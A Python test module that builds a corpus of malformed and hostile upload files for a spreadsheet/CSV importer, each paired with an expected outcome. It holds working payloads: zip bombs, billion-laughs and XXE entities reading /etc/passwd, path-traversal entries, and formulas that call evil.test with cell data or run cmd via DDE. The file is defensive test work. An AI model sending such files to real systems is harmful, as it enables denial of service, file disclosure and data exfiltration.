"""Files that somebody could send instead of a table, each with what must come of it."""

import io
import struct
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import datetime
from typing import Any

import openpyxl
import xlsxwriter

HEADINGS = ("reference", "home_name", "occurred_at", "channel", "category", "summary")
ROW = ("R1", "Alder", "2019-05-04 19:30", "101", "criminal_damage", "A cup.")
MB = 1024 * 1024

REFUSED, READ, EITHER = "refused", "read", "either"


_SLOW = {
    "deep.xlsx",
    "deep_strings.xlsx",
    "many_columns.csv",
    "many_columns_known.csv",
    "many_columns.xlsx",
    "row_beyond.xlsx",
    "huge_cell.xlsx",
    "twin_parts.xlsx",
    "too_large.csv",
    "many_strings.xlsx",
    "many_parts.xlsx",
    "big_styles.xlsx",
    "never_closed.csv",
}


@dataclass(frozen=True)
class Sent:
    """One file: how it is called, how it is made, what must come of it; `slow` takes seconds."""

    name: str
    make: Callable[[], bytes]
    must: str = REFUSED
    slow: bool = False

    @property
    def takes_long(self) -> bool:
        """Whether it is left to the long form."""
        return self.slow or self.name in _SLOW


def _csv(*rows: tuple[object, ...], separator: str = ",") -> bytes:
    lines = (separator.join(str(cell) for cell in row) for row in (HEADINGS, *rows))
    return "\r\n".join(lines).encode()


def _workbook(fill: Callable[[Any, Any], None], **options: object) -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True, **options}) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, HEADINGS)
        sheet.write_row(1, 0, ROW)
        fill(book, sheet)
    return out.getvalue()


def _plain() -> bytes:
    return _workbook(lambda book, sheet: None)


def _replace(changes: dict[str, bytes | Callable[[bytes], bytes] | None], base: bytes) -> bytes:
    """A workbook with parts replaced, added, or (None) left out."""
    out = io.BytesIO()
    left = dict(changes)
    with (
        zipfile.ZipFile(io.BytesIO(base)) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for part in old.infolist():
            change = left.pop(part.filename, old.read(part))
            if callable(change):
                change = change(old.read(part))
            if change is not None:
                new.writestr(part.filename, change)
        for name, content in left.items():
            if isinstance(content, bytes):
                new.writestr(name, content)
    return out.getvalue()


SHEET, STRINGS = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"
STYLES = "xl/styles.xml"


def _stretch(part: str, filler: bytes, times: int, before: bytes) -> bytes:
    return _replace({part: lambda xml: xml.replace(before, filler * times + before)}, _plain())


def _declare(kind: bytes) -> bytes:
    def put(xml: bytes) -> bytes:
        head, _, rest = xml.partition(b"?>")
        return head + b"?>" + kind + rest.replace(b"A cup.", b"&x;")

    return _replace({STRINGS: put}, _plain())


_LAUGHS = (
    b"<!DOCTYPE l [<!ENTITY a0 'ha'>"
    + b"".join(b"<!ENTITY a%d '%s'>" % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12))
    + b"<!ENTITY x '&a11;'>]>"
)


def _bomb(size: int, name: str = "xl/media/image1.png") -> bytes:
    out = io.BytesIO()
    out.write(_plain())
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open(name, "w", force_zip64=True) as part,
    ):
        for _ in range(size // MB):
            part.write(b"\0" * MB)
    return out.getvalue()


def _nest(depth: int) -> bytes:
    inner = _bomb(4 * MB)
    for _ in range(depth):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(10):
                archive.writestr(f"{number}.zip", inner)
        inner = out.getvalue()
    return inner


def _overlap() -> bytes:
    """Many entries of the directory that are the same bytes: each small, together endless."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("a.bin", b"\0" * (20 * MB))
        info = archive.infolist()[1]
        for number in range(400):
            twin = zipfile.ZipInfo(f"b{number}.bin")
            for name in ("compress_type", "CRC", "compress_size", "file_size", "header_offset"):
                setattr(twin, name, getattr(info, name))
            archive.filelist.append(twin)
            archive._didModify = True
    return out.getvalue()


def _lie_of_size() -> bytes:
    """The directory says 1 byte where a gigabyte comes out."""
    made = bytearray(_bomb(260 * MB, "xl/worksheets/sheet2.xml"))
    at = made.rfind(b"PK\x01\x02", 0, made.rfind(b"xl/worksheets/sheet2.xml"))
    made[at + 24 : at + 28] = struct.pack("<I", 1)
    return bytes(made)


def _encrypted() -> bytes:
    made = bytearray(_plain())
    at = made.find(b"PK\x01\x02")
    while at >= 0:
        made[at + 8] |= 1
        at = made.find(b"PK\x01\x02", at + 1)
    return bytes(made)


def _traverse() -> bytes:
    return _replace({"../../../../tmp/evil.txt": b"x", "/etc/evil": b"x"}, _plain())


def _macros() -> bytes:
    types = "[Content_Types].xml"
    old = b"spreadsheetml.sheet.main+xml"
    new = b"ms-excel.sheet.macroEnabled.main+xml"
    return _replace(
        {types: lambda xml: xml.replace(old, new), "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 99},
        _plain(),
    )


def _blank_rows() -> bytes:
    rows = b"".join(b'<row r="%d"></row>' % n for n in range(3, 1_048_577))
    return _stretch(SHEET, rows, 1, b"</sheetData>")


def _formulas() -> bytes:
    def fill(_book: Any, sheet: Any) -> None:
        sheet.write_formula(1, 5, '=WEBSERVICE("http://evil.test/?"&A1)', value="said")
        sheet.write_formula(2, 5, "=cmd|'/c calc'!A1")

    return _workbook(fill)


def _links() -> bytes:
    rels = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    rels += b'<Relationship Id="r1" Type="externalLink" Target="http://evil.test/x.xlsx" '
    rels += b'TargetMode="External"/></Relationships>'
    return _replace(
        {"xl/externalLinks/externalLink1.xml": b"<x/>", "xl/_rels/extra.xml.rels": rels},
        _plain(),
    )


def _by_openpyxl() -> bytes:
    book, out = openpyxl.Workbook(), io.BytesIO()
    book.active.append(HEADINGS)
    book.active.append((*ROW[:2], datetime(2019, 5, 4, 19, 30), *ROW[3:]))
    book.save(out)
    return out.getvalue()


def list_corpus() -> Iterator[Sent]:
    """Every file, quick ones first."""
    yield Sent("plain.csv", lambda: _csv(ROW), READ)
    yield Sent("plain.xlsx", _plain, READ)
    yield Sent("openpyxl.xlsx", _by_openpyxl, READ)
    yield Sent("utf16.csv", lambda: _csv(ROW).decode().encode("utf-16"), READ)
    yield Sent("utf8_bom.csv", lambda: b"\xef\xbb\xbf" + _csv(ROW), READ)
    yield Sent("formulas.xlsx", _formulas, READ)
    yield Sent("links.xlsx", _links, EITHER)
    yield Sent("macros.xlsm", _macros, EITHER)
    yield Sent("traversal.xlsx", _traverse, EITHER)
    yield Sent("utf7.csv", lambda: _csv((*ROW[:5], "+ADw-script+AD4-")), READ)
    yield Sent("utf16_without_mark.csv", lambda: _csv(ROW).decode().encode("utf-16-le"))
    yield Sent("utf32.csv", lambda: _csv(ROW).decode().encode("utf-32"))
    yield Sent("mixed.csv", lambda: _csv((*ROW[:5], "é")) + "é".encode("cp1252"), EITHER)
    yield Sent("no_encoding.csv", lambda: _csv(ROW) + b"\x81\x8d\x8f\x90\x9d\xff")
    yield Sent("nulls.csv", lambda: b"\x00" * 4096)
    yield Sent("null_in_cell.csv", lambda: _csv((*ROW[:5], "a\x00b")), EITHER)
    yield Sent("many_nulls.csv", lambda: _csv(*[("R\x00", "\x00")] * 500))
    yield Sent("empty.csv", lambda: b"")
    yield Sent("blank.csv", lambda: b"\r\n" * 5000)
    yield Sent("marks_only.csv", lambda: b"\xef\xbb\xbf")
    yield Sent("document.csv", lambda: b"%PDF-1.7\n" + b"x" * 5000)
    yield Sent("picture.csv", lambda: b"\x89PNG\r\n\x1a\n" + b"\x00" * 500)
    yield Sent("program.csv", lambda: b"MZ\x90\x00\x03\x00\x00\x00\x04" + bytes(range(256)) * 20)
    yield Sent("elf.csv", lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 4096)
    yield Sent("page.csv", lambda: b"<html><body><table><tr><td>reference</td></tr></table>")
    yield Sent("old.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 5000)
    yield Sent("archive.xlsx", lambda: _nest(1))
    yield Sent("nested.xlsx", lambda: _nest(2), slow=True)
    yield Sent("cut.xlsx", lambda: _plain()[:-400])
    yield Sent("cut_short.xlsx", lambda: _plain()[:200])
    yield Sent("damaged.xlsx", lambda: _plain().replace(b"\x00\x00", b"\xff\xff"))
    yield Sent("encrypted.xlsx", _encrypted)
    yield Sent("doctype.xlsx", lambda: _declare(_LAUGHS))
    yield Sent("outside.xlsx", lambda: _declare(b'<!DOCTYPE x SYSTEM "http://evil.test/x">'))
    yield Sent("local.xlsx", lambda: _declare(b'<!DOCTYPE x [<!ENTITY x SYSTEM "/etc/passwd">]>'))
    yield Sent(
        "utf16_part.xlsx",
        lambda: _replace({STRINGS: lambda xml: xml.decode().encode("utf-16")}, _plain()),
    )
    yield Sent("no_sheet.xlsx", lambda: _replace({SHEET: None}, _plain()))
    yield Sent("no_strings.xlsx", lambda: _replace({STRINGS: None}, _plain()), EITHER)
    yield Sent(
        "broken_xml.xlsx", lambda: _replace({SHEET: lambda xml: xml[: len(xml) // 2]}, _plain())
    )
    yield Sent("no_types.xlsx", lambda: _replace({"[Content_Types].xml": None}, _plain()))
    yield Sent("deep.xlsx", lambda: _stretch(SHEET, b"<a>", 200_000, b"</sheetData>"))
    yield Sent("deep_strings.xlsx", lambda: _stretch(STRINGS, b"<r>", 200_000, b"</sst>"))
    yield Sent(
        "many_parts.xlsx",
        lambda: _replace({f"xl/p{n}.xml": b"<x/>" for n in range(3000)}, _plain()),
    )
    yield Sent("many_columns.csv", lambda: b",".join(b"c%d" % n for n in range(100_000)) + b"\n1")
    yield Sent("many_columns_known.csv", lambda: _csv((*ROW, *range(100_000))))
    yield Sent(
        "many_columns.xlsx",
        lambda: _workbook(lambda book, sheet: sheet.write_row(1, 0, range(16_384))),
        EITHER,
    )
    yield Sent(
        "column_beyond.xlsx",
        lambda: _stretch(
            SHEET, b'<row r="3"><c r="ZZZZZZ3"><v>1</v></c></row>', 1, b"</sheetData>"
        ),
        EITHER,
    )
    yield Sent(
        "row_beyond.xlsx",
        lambda: _stretch(
            SHEET,
            b'<row r="99999999999"><c r="A99999999999"><v>1</v></c></row>',
            1,
            b"</sheetData>",
        ),
        EITHER,
    )
    yield Sent(
        "dimension.xlsx",
        lambda: _replace(
            {SHEET: lambda xml: xml.replace(b'ref="A1:F2"', b'ref="A1:XFD1048576"')}, _plain()
        ),
        READ,
    )
    yield Sent(
        "huge_cell.xlsx",
        lambda: _replace({STRINGS: lambda xml: xml.replace(b"A cup.", b"A" * 20 * MB)}, _plain()),
    )
    yield Sent("huge_cell.csv", lambda: _csv((*ROW[:5], "A" * 200_000)))
    yield Sent("never_closed.csv", lambda: _csv((*ROW[:5], '"' + "A cup.\r\n" * 20_000)))
    yield Sent("never_closed_short.csv", lambda: _csv((*ROW[:5], '"A cup.\r\nR2,Alder')))
    yield Sent("quotes.csv", lambda: _csv(*[('"""' * 9, '""', '"a"b"c')] * 2000), EITHER)
    yield Sent("many_strings.xlsx", lambda: _stretch(STRINGS, b"<si/>", 2_100_000, b"</sst>"))
    yield Sent("big_styles.xlsx", lambda: _stretch(STYLES, b"<x/>", 2 * MB, b"</styleSheet>"))
    yield Sent(
        "merged.xlsx",
        lambda: _stretch(
            SHEET, b'<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>', 1, b"<pageMargins"
        ),
        READ,
    )
    yield Sent("twin_parts.xlsx", _overlap)
    yield Sent("lie_of_size.xlsx", _lie_of_size, slow=True)
    yield Sent("bomb.xlsx", lambda: _bomb(300 * MB), slow=True)
    yield Sent(
        "bomb_in_sheet.xlsx", lambda: _stretch(SHEET, b" " * MB, 300, b"</sheetData>"), slow=True
    )
    yield Sent("blank_rows.xlsx", _blank_rows, EITHER, slow=True)
    yield Sent(
        "too_many_rows.xlsx",
        lambda: _stretch(SHEET, b"<row/>", 1_100_000, b"</sheetData>"),
        slow=True,
    )
    yield Sent("one_line.csv", lambda: b"reference," + b"A" * (50 * MB - 100), slow=True)
    yield Sent("one_line_of_cells.csv", lambda: b"reference" + b",x" * (25 * MB - 100), slow=True)
    yield Sent("too_large.csv", lambda: b"reference,a\n" + b"x,y\n" * (13 * MB))
    yield Sent("many_rows.csv", lambda: _csv() + b"\n" * 1_200_000, slow=True)
    yield Sent("line_ends.csv", lambda: _csv() + b"\r" * (40 * MB), slow=True)
    yield Sent("many_cells.csv", lambda: _csv() + (b"\n" + b"x," * 400) * 40_000, slow=True)
